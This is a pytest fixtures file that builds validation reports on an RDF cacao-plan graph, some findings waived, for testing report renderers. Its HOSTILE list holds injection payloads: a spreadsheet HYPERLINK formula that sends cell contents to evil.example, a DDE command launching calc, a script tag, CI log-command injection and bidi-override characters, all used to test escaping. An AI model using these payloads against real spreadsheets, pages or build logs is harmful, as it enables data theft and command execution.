"""Reports that renderers are tried on: real findings of a broken plan, some waived, some with hostile texts."""

from __future__ import annotations

import dataclasses
import datetime
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pyshacl
import pytest
from rdflib import Graph

from popgraph.findings import DataPlace, DocumentPlace, Origin, Severity, Waiver
from popgraph.validation import ValidationReport, validate
from popgraph.vocab import SHAPES

Fixture = Callable[[str], tuple[ValidationReport, Graph]]

ROOT = Path(__file__).parents[2]
PLAN = ROOT / "data" / "pe-cus" / "pop-cacao" / "2005" / "plan.ttl"
FIXTURES = ROOT / "tests" / "rules"
BROKEN = ("RSP-01b", "STR-04", "TGT-01")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script><!-- & --> ]]> <![CDATA[",
    "one\ntwo\r\n::error file=x::injected\n##[error]x",
    "\x00\x07\x1b[31mred\x1b[0m\ufffe\x85\u2028",
    "100 % [link](http://evil.example) {0} %0A ::set-output name=x::y",
    "🍫 cacao 👩‍🌾, שלום \u202eabc\u202c العربية",
    "\"quoted\" 'single' \\backslash\\ «angular» ;,|",
    "á" * 40_000,
    " ",
    "_x0041_ _x000D_",
    "'apostrophe",
)
WAIVER = Waiver(
    iri="https://w3id.org/popgraph/id/pe-cus/pop-cacao/2005/dispensa/1",
    reason={"es": "Así está impreso; <no> se cambia.", "en": "As printed; not to be changed."},
    author="popgraph",
    created=datetime.date(2026, 11, 23),
    expires=datetime.date(2027, 11, 23),
)


@cache
def shapes() -> Graph:
    """The rules of all tiers."""
    graph = Graph()
    for file in sorted((ROOT / "ontology" / "shapes").glob("*.ttl")):
        graph.parse(file)
    return graph


def shacl(rule: str) -> Graph:
    """What pySHACL itself reports of a rule on the graph that breaks it."""
    data = Graph().parse(FIXTURES / rule / "bad.ttl")
    for file in [*(ROOT / "ontology").glob("*.ttl"), *(ROOT / "ontology" / "schemes").glob("*.ttl")]:
        data.parse(file)
    _, found, _ = pyshacl.validate(data, shacl_graph=shapes(), use_shapes=[SHAPES + rule], inference="none")
    assert isinstance(found, Graph)
    return found


@pytest.fixture(scope="session")
def fixture_of() -> Fixture:
    """The report of a rule on the graph that breaks it, and pySHACL's own."""
    return lambda rule: (validate(FIXTURES / rule / "bad.ttl", rules=[rule]), shacl(rule))


@pytest.fixture(scope="session")
def real(tmp_path_factory: pytest.TempPathFactory) -> ValidationReport:
    """The report on a copy of the plan in which four periods end before they begin."""
    copy = tmp_path_factory.mktemp("plan") / "plan.ttl"
    day = 'pop:latest "2005-12-31"^^xsd:date'
    text = PLAN.read_text(encoding="utf-8")
    assert text.count(day) > 4
    copy.write_text(text.replace(day, day.replace("2005", "2003"), 4), encoding="utf-8")
    return validate(copy, tier="draft", as_of=datetime.date(2026, 11, 23))


@pytest.fixture(scope="session")
def broken(real: ValidationReport) -> ValidationReport:
    """The same and the findings of other graphs in every severity and origin, the last two waived."""
    found = [
        *real.findings,
        *(f for rule in BROKEN for f in validate(FIXTURES / rule / "bad.ttl", tier="draft").findings),
    ]
    # One stands in no file, but in the document.
    bare = next(number for number, finding in enumerate(found) if finding.document)
    mixed = [
        dataclasses.replace(
            finding,
            severity=list(Severity)[number % len(Severity)],
            origin=list(Origin)[number % len(Origin)],
            data=finding.data if number != bare else None,
        )
        for number, finding in enumerate(found)
    ]
    waived = tuple(dataclasses.replace(finding, waiver=WAIVER) for finding in mixed[-2:])
    return dataclasses.replace(real, findings=tuple(mixed[:-2]), waived=waived)


@pytest.fixture(scope="session")
def clean(real: ValidationReport) -> ValidationReport:
    """The same without findings."""
    return dataclasses.replace(real, findings=(), waived=())


@pytest.fixture(scope="session")
def hostile(real: ValidationReport) -> ValidationReport:
    """A finding for each hostile text, which stands in every field that strangers can fill."""
    plain = real.findings[0]
    found = tuple(
        dataclasses.replace(
            plain,
            messages={"es": text, "en": text},
            labels={"es": text},
            value=text,
            bindings=(("found", text),),
            guidance={"es": text, "en": text},
            data=DataPlace(text[:200], 1, 1),
            document=(DocumentPlace(1, 1, text),),
            fingerprint=f"{number:016x}",
        )
        for number, text in enumerate(HOSTILE)
    )
    waiver = dataclasses.replace(WAIVER, reason={"es": HOSTILE[6]}, author=HOSTILE[0])
    return dataclasses.replace(real, findings=found, waived=(dataclasses.replace(found[6], waiver=waiver),))
